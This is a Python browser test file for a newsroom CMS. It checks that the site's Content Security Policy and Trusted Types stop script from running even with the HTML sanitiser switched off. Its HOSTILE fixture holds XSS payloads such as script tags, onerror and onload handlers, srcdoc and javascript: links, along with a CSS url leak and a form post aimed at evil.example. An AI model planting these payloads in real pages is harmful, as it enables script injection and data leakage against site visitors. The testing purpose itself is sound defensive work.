"""The content policy alone, with the sanitiser taken away: what was written must still not run."""

import pytest
from playwright.sync_api import Error

from accounts.models import User
from content import workflow
from content.models import Article, Section
from tests.browser import Visits
from tests.newsroom import digest_of

HOSTILE = """
<p id="shown">Shown.</p>
<script>window.pwned = "inline script"</script>
<script src="data:text/javascript,window.pwned='data script'"></script>
<script src="/news/hostile.js"></script>
<img src="x" onerror="window.pwned = 'event attribute'">
<svg onload="window.pwned = 'svg'"></svg>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<object data="data:text/html,<script>parent.pwned = 'object'</script>"></object>
<base href="https://evil.example/">
<style>body { background: url(https://evil.example/leak) }</style>
<a id="link" href="javascript:window.pwned = 'link'">Read on</a>
<form id="form" action="https://evil.example/" method="post"><input name="x" value="y"></form>
"""


@pytest.fixture
def hostile(news: Section, cara: User, ed: User, monkeypatch: pytest.MonkeyPatch) -> Article:
    monkeypatch.setattr("content.revisions.revisions.clean_html", lambda html: html)
    article = workflow.create_article(news, by=cara, title="Hostile", body=HOSTILE)
    workflow.submit(article, by=cara)
    workflow.approve(article, by=ed, digest=digest_of(article))
    return workflow.publish(article, by=ed)


@pytest.mark.browser
@pytest.mark.late
def test_what_got_past_the_sanitiser_does_not_run(visits: Visits, hostile: Article) -> None:
    for complaint in ("Content policy", "Content Security Policy", "violates the following", "404"):
        visits.expect(complaint)
    page = visits.open("/news/hostile/")
    assert page.locator("#shown").is_visible()
    page.locator("#link").click()
    page.evaluate("document.querySelector('#form').submit()")
    page.wait_for_timeout(300)
    assert page.url == f"{visits.site}/news/hostile/"
    assert page.evaluate("window.pwned") is None


@pytest.mark.browser
@pytest.mark.late
def test_text_cannot_become_markup_by_script(visits: Visits, published: Article) -> None:
    visits.expect("Content policy")
    visits.expect("TrustedHTML")
    page = visits.open(f"/{published.address.path}/")
    with pytest.raises(Error, match="requires 'TrustedHTML'"):
        page.evaluate("() => { document.body.innerHTML = '<b>x</b>' }")
